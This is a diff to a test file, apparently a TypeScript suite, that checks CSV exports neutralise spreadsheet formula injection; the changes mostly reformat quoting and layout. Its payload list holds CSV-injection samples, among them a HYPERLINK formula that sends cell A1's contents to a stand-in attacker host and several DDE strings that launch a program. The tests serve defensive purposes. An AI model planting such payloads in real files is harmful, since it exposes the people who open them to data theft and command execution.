@@ -13,9 +13,9 @@ const RUNS_AS_FORMULA = /^[=+\-@\t\r]/;
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+9)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   "'=already escaped once",
@@ -160,8 +160,17 @@ describe('every CSV export', () => {
     expect(imported.status, JSON.stringify(imported.body)).toBe(200);
     const after = (await h.api.get('/api/glossary/terms?sourceLang=en&targetLang=id')).body.items;
     const strip = (terms: Array<Record<string, unknown>>) =>
-      terms.map(({ source, target, forbidden, note, doNotTranslate, caseSensitive }) => ({ source, target, forbidden, note, doNotTranslate, caseSensitive }));
+      terms.map(({ source, target, forbidden, note, doNotTranslate, caseSensitive }) => ({
+        source,
+        target,
+        forbidden,
+        note,
+        doNotTranslate,
+        caseSensitive,
+      }));
     expect(strip(after)).toEqual(strip(before));
-    expect(strip(after)).toContainEqual(expect.objectContaining({ source: '=cmd|calc', target: '@SUM(1)', forbidden: ['+bad', '-worse'], note: '=HYPERLINK("x")' }));
+    expect(strip(after)).toContainEqual(
+      expect.objectContaining({ source: '=cmd|calc', target: '@SUM(1)', forbidden: ['+bad', '-worse'], note: '=HYPERLINK("x")' }),
+    );
   });
 });
